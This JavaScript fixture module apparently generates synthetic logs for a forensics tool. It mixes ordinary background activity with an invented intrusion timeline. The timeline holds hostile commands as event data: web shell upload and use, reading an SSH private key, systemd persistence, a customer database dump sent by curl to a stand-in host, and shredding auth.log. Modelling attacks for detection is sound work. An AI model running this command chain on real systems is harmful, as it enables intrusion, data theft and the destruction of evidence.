// An invented intrusion across web1, app1 and db1, with an ordinary working morning around it.
import { at, event, execve, sshd, web, dns, flow, file, SEGMENT_RECORDS } from './events.mjs';

const ATTACKER = '203.0.113.77';

function intrusion() {
  const www = { user: 'www-data', ses: 4294967295 };
  const ops = { user: 'deploy', ses: 41 };
  return [
    web(at('09:41:07.118'), 'web1', { ip: ATTACKER, method: 'POST', path: '/upload.php?name=theme.php', code: 200, agent: 'curl/8.5.0', bytes: 41, step: 1, severity: 4 }),
    file(at('09:41:07.402'), 'web1', { path: '/srv/www/uploads/theme.php', pid: 1422, user: 'www-data', step: 1, severity: 4 }),
    web(at('09:42:31.006'), 'web1', { ip: ATTACKER, method: 'GET', path: '/uploads/theme.php?c=id', code: 200, agent: 'curl/8.5.0', bytes: 54, step: 2, severity: 4 }),
    execve(at('09:42:31.090'), 'web1', { ...www, pid: 5120, ppid: 1422, argv: ['/bin/sh', '-c', 'id'], parent: 'php-fpm', cwd: '/srv/www/uploads', step: 2, severity: 4 }),
    execve(at('09:43:02.551'), 'web1', { ...www, pid: 5131, ppid: 5120, argv: ['uname', '-a'], parent: 'sh', step: 3, severity: 2 }),
    execve(at('09:43:09.114'), 'web1', { ...www, pid: 5133, ppid: 5120, argv: ['cat', '/etc/passwd'], parent: 'sh', step: 3, severity: 3 }),
    execve(at('09:43:40.870'), 'web1', { ...www, pid: 5139, ppid: 5120, argv: ['ss', '-tnp'], parent: 'sh', step: 3, severity: 2 }),
    execve(at('09:46:15.332'), 'web1', { ...www, pid: 5160, ppid: 5120, argv: ['find', '/home', '-name', 'id_*', '-readable'], parent: 'sh', step: 4, severity: 4 }),
    execve(at('09:46:52.007'), 'web1', { ...www, pid: 5171, ppid: 5120, argv: ['cat', '/home/deploy/.ssh/id_ed25519'], parent: 'sh', step: 4, severity: 5 }),
    execve(at('09:51:20.640'), 'web1', { ...www, pid: 5204, ppid: 5120, argv: ['ssh', '-i', '/tmp/.k', 'deploy@app1'], parent: 'sh', cwd: '/tmp', step: 5, severity: 4 }),
    sshd(at('09:51:22.000'), 'app1', { user: 'deploy', ip: '10.20.0.11', port: 48122, accepted: true, pid: 3310, step: 5 }),
    execve(at('09:52:10.215'), 'app1', { ...ops, pid: 3344, ppid: 3312, argv: ['sudo', '-l'], step: 6, severity: 3 }),
    execve(at('09:53:01.770'), 'app1', { ...ops, pid: 3351, ppid: 3312, argv: ['sudo', 'install', '-m755', '/tmp/.cache/agent', '/usr/local/sbin/logrotated'], step: 7, severity: 4 }),
    file(at('09:53:40.121'), 'app1', { path: '/etc/systemd/system/logrotated.service', pid: 3360, user: 'root', step: 7, severity: 4 }),
    execve(at('09:53:58.904'), 'app1', { ...ops, pid: 3371, ppid: 3312, argv: ['sudo', 'systemctl', 'enable', '--now', 'logrotated'], step: 7, severity: 4 }),
    sshd(at('10:04:11.000'), 'db1', { user: 'deploy', ip: '10.20.0.21', port: 51230, accepted: true, pid: 2210, step: 8 }),
    execve(at('10:05:30.441'), 'db1', { ...ops, pid: 2231, ppid: 2212, argv: ['pg_dump', '-Fc', 'customers', '-f', '/tmp/c.dump'], step: 9, severity: 4 }),
    execve(at('10:08:12.018'), 'db1', { ...ops, pid: 2240, ppid: 2212, argv: ['tar', 'czf', '/tmp/.c.tgz', '/tmp/c.dump'], step: 9, severity: 3 }),
    dns(at('10:09:02.000'), 'db1', { name: 'cdn-sync.example.net', answer: '198.51.100.20', step: 10, severity: 3 }),
    execve(at('10:09:03.300'), 'db1', { ...ops, pid: 2251, ppid: 2212, argv: ['curl', '-sT', '/tmp/.c.tgz', 'https://cdn-sync.example.net/u'], step: 10, severity: 5 }),
    flow(at('10:09:05.000'), 'db1', { to: '198.51.100.20', port: 443, out: 48_211_904, step: 10, severity: 4 }),
    execve(at('10:12:44.556'), 'db1', { ...ops, pid: 2266, ppid: 2212, argv: ['shred', '-u', '/var/log/auth.log'], step: 11, severity: 5 }),
    event(at('10:12:44.700'), 'db1', 0, 'rsyslogd: file /var/log/auth.log vanished, reopening', { message: 'action omfile: file vanished, reopening' },
      'rsyslogd: action omfile: file /var/log/auth.log vanished, reopening', { step: 11, severity: 3, certainty: 'received', decoder: 'text', source: 'db1/syslog' }),
  ];
}

function random(seed) {
  let state = seed;
  return (n) => { state = (state * 1664525 + 1013904223) >>> 0; return Math.floor((state / 2 ** 32) * n); };
}

function background() {
  const dice = random(7);
  const pick = (list) => list[dice(list.length)];
  const agents = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0', 'Mozilla/5.0 (Windows NT 10.0) Chrome/131.0', 'kube-probe/1.31'];
  const paths = ['/', '/catalogue', '/cart', '/api/orders', '/static/app.css', '/static/app.js', '/healthz', '/login'];
  const commands = [['ls', '-l'], ['git', 'pull', '--ff-only'], ['systemctl', 'status', 'nginx'], ['df', '-h'], ['psql', '-c', 'select 1'], ['tail', '-n', '50', '/var/log/syslog'], ['python3', 'manage.py', 'check']];
  const events = [];
  for (let i = 0; i < 3400; i++) {
    const quiet = dice(10) < 2;
    const time = quiet ? at('07:00:00') + dice(5 * 3600_000) : at('08:30:00') + dice(2.6 * 3600_000);
    const kind = dice(100);
    const host = pick(['web1', 'app1', 'db1']);
    if (kind < 46) events.push(web(time, 'web1', { ip: `192.0.2.${10 + dice(60)}`, method: pick(['GET', 'GET', 'GET', 'POST']), path: pick(paths), code: pick([200, 200, 200, 304, 404]), agent: pick(agents), bytes: 200 + dice(9000) }));
    else if (kind < 70) events.push(execve(time, host, { pid: 6000 + dice(9000), ppid: 1200 + dice(60), user: pick(['anna', 'malik', 'backup', 'root']), ses: 10 + dice(20), argv: pick(commands) }));
    else if (kind < 80) events.push(dns(time, host, { name: pick(['deb.example.org', 'api.payments.example', 'time.example.org', 'git.example.org']), answer: `198.51.100.${dice(200)}` }));
    else if (kind < 92) events.push(flow(time, host, { to: `10.20.0.${11 + dice(3) * 10}`, port: pick([5432, 443, 8080]), out: 400 + dice(90_000) }));
    else if (kind < 96) events.push(sshd(time, host, { user: pick(['anna', 'malik']), ip: `10.20.1.${5 + dice(20)}`, port: 40_000 + dice(9000), accepted: true, pid: 2000 + dice(3000) }));
    else events.push(sshd(time, host, { user: pick(['root', 'admin', 'oracle', 'test']), ip: pick([ATTACKER, '203.0.113.9']), port: 40_000 + dice(9000), accepted: false, pid: 2000 + dice(3000) }));
  }
  return events;
}

/** Every event in time order with its record id; the last segment is still open. */
export const EVENTS = [...background(), ...intrusion()]
  .sort((a, b) => a.time - b.time)
  .map((e, i) => ({ ...e, record: `${1 + Math.floor(i / SEGMENT_RECORDS)}-${i % SEGMENT_RECORDS}`, part: 0 }));

export const OPEN_SEGMENT = 1 + Math.floor((EVENTS.length - 1) / SEGMENT_RECORDS);
/** A record whose stored bytes were changed after sealing, so that the failed state can be seen. */
export const TAMPERED = EVENTS.find((e) => e.step === 11).record;
export const STEP_EVENTS = (n) => EVENTS.filter((e) => e.step === n);
